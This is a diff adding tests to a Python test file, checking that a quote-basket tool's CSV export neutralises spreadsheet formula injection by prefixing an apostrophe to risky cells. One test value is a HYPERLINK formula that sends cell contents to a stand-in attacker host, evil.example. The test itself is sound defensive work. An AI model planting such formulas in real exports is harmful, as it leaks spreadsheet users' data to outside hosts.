@@ -229,3 +229,28 @@ def test_an_answer_exports_like_a_basket():
         ExportEntry(PDF.text,
                     "(Global Report on Trafficking in Persons 2024, pp. 69–70 [printed page; PDF pp. 5–6])",
                     "", True))
+
+
+FORMULAS = {
+    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "plus": "+SUM(A1:A9)",
+    "minus": "-2+3",
+    "at": "@SUM(A1)",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(text):
+    hostile = replace(TRANSIT, id="hostile.txt:p9:1", text=text, section=text, speaker=text, organisation=text)
+    item = Basket().add(hostile, REPORT).edit_note(1, "x").items[0]
+    item = replace(item, note=text)  # edit_note strips whitespace; a note may still start with "@"
+    _, rows = read_csv(to_csv([item]))
+    for field in ("quote", "section", "speaker", "organisation", "note"):
+        assert rows[0][field] == "'" + text, field
+
+
+def test_csv_leaves_ordinary_cells_alone():
+    _, rows = read_csv(to_csv(basket().items))
+    assert [r["quote"][0] for r in rows] == ["V", "F", "T", "I", "*"]
